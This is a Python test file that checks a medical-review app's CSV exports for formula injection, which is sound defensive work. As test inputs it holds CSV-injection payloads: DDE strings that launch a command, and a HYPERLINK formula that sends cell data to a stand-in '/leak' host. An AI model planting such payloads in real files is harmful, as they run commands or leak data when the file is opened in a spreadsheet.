"""CSV exports are spreadsheet-safe (security notes F8 / 5c): formula-looking text gets a
leading apostrophe, real numbers stay numbers, and this holds for every CSV the app writes."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from medreview.cli.main import main
from medreview.exporters.csv_safe import RISKY_FIRST, safe_cell, unescape_cell
from medreview.exporters.tables import write_table

HOSTILE_MODEL = "=cmd|' /C calc'!A0"
HOSTILE_OUTPUT = '=HYPERLINK("http://127.0.0.1:8127/leak?x="&B2,"open")'
HOSTILE_TITLE = "+1+cmd|' /C calc'!A0"
HOSTILE_PROMPT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CRITERION = "-2+3+cmd|' /C calc'!A0"
TAB_CELL = "\t=1+1"
CR_CELL = "\r=1+1"


def _read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_write_table_prefixes_text_and_keeps_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame({
        "int": [-32, 5, 0, 1, 2, 3, 4, 6],
        "float": [-0.5, 1.5, 0.0, 2.0, 3.0, 4.0, 5.0, 6.0],
        "text": ["-32", "=1+1", "+x", "@x", TAB_CELL, CR_CELL, "plain", "a=b"],
        "=evil": ["ok"] * 8,
    })
    rows = _read_csv(write_table(df, tmp_path / "t", "csv"))
    assert rows[0] == ["int", "float", "text", "'=evil"]
    body = rows[1:]
    assert [r[0] for r in body][:2] == ["-32", "5"]  # a real negative number stays a number
    assert body[0][1] == "-0.5"
    assert [r[2] for r in body] == ["'-32", "'=1+1", "'+x", "'@x", "'" + TAB_CELL,
                                    "'" + CR_CELL, "plain", "a=b"]
    assert [unescape_cell(r[2]) for r in body] == list(df["text"])
    raw = (tmp_path / "t.csv").read_bytes()
    assert b"\r\n-32,-0.5," in raw  # written unquoted: spreadsheets read numbers
    assert b'"\'\r=1+1"' in raw  # a bare CR inside text is quoted, so rows never split


def test_safe_cell_touches_only_strings() -> None:
    assert safe_cell(-32) == -32 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    for c in RISKY_FIRST:
        assert safe_cell(c + "x") == "'" + c + "x"
    assert safe_cell("'=already") == "'=already" and unescape_cell("'plain") == "'plain"


@pytest.fixture
def hostile_export(tmp_path: Path) -> Path:
    """A real project whose texts start like formulas, exported as every CSV the app writes."""
    hb = {"prompt_id": "hb-1",
          "prompt": [{"role": "user", "content": HOSTILE_PROMPT}],
          "rubrics": [{"criterion": HOSTILE_CRITERION, "points": -32, "tags": ["axis:accuracy"]},
                      {"criterion": "=1+1", "points": 7, "tags": ["axis:completeness"]}]}
    (tmp_path / "hb.jsonl").write_text(json.dumps(hb) + "\n", encoding="utf-8")
    lines = [{"case_id": "inj-3", "title": HOSTILE_TITLE, "prompt": TAB_CELL,
              "model": HOSTILE_MODEL, "output": HOSTILE_OUTPUT},
             {"case_id": "inj-4", "title": CR_CELL, "prompt": "-17", "model": "@model",
              "output": "-0.5"}]
    (tmp_path / "cases.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines),
                                          encoding="utf-8")
    project = tmp_path / "p"
    assert main(["init", str(project), "--rubric", "healthbench"]) == 0
    assert main(["import", str(project), str(tmp_path / "hb.jsonl")]) == 0
    assert main(["import", str(project), str(tmp_path / "cases.jsonl")]) == 0
    out = tmp_path / "exp"
    # (the criteria kind writes its own criteria.csv, so it goes into a folder of its own)
    assert main(["export", str(project), str(out), "--kind", "tables", "--kind", "audit",
                 "--format", "csv"]) == 0
    assert main(["export", str(project), str(out / "training"), "--kind", "criteria"]) == 0
    return out


def test_every_exported_csv_cell_is_safe(hostile_export: Path) -> None:
    files = sorted(hostile_export.rglob("*.csv"))
    names = {p.relative_to(hostile_export).as_posix() for p in files}
    assert {"cases.csv", "outputs.csv", "criteria.csv", "audit/judgment_history.csv",
            "training/criteria.csv"} <= names
    cells = [(p.name, c) for p in files for row in _read_csv(p) for c in row]
    risky = [(n, c) for n, c in cells if c.startswith(RISKY_FIRST) and not _is_number(c)]
    assert risky == []
    texts = {c for _, c in cells}
    for hostile in (HOSTILE_MODEL, HOSTILE_OUTPUT, HOSTILE_TITLE, HOSTILE_CRITERION, CR_CELL):
        assert "'" + hostile in texts, hostile
        assert hostile not in texts
    # an answer that is the text "-0.5" is text, so it is prefixed like any other
    assert "'-0.5" in texts


def test_negative_points_stay_numbers(hostile_export: Path) -> None:
    rows = _read_csv(hostile_export / "criteria.csv")
    header, body = rows[0], rows[1:]
    points = [r[header.index("points")] for r in body]
    assert sorted(float(p) for p in points) == [-32.0, 7.0]
    assert all(not p.startswith("'") for p in points)
    crit = {unescape_cell(r[header.index("criterion")]) for r in body}
    assert crit == {HOSTILE_CRITERION, "=1+1"}


def test_categorical_text_columns_are_escaped_too() -> None:
    """Names and rationales may arrive as pandas categoricals (the ratings table keeps them so):
    their categories are text a spreadsheet would run."""
    from medreview.exporters.csv_safe import safe_frame

    df = pd.DataFrame({"rater": pd.Categorical(["=HYPERLINK(\"x\")", "Dr A", "@SUM(1)"]),
                       "points": [1, -2, 3]})
    out = safe_frame(df)
    assert list(out["rater"]) == ["'=HYPERLINK(\"x\")", "Dr A", "'@SUM(1)"]
    assert list(out["points"]) == [1, -2, 3]  # numbers stay numbers
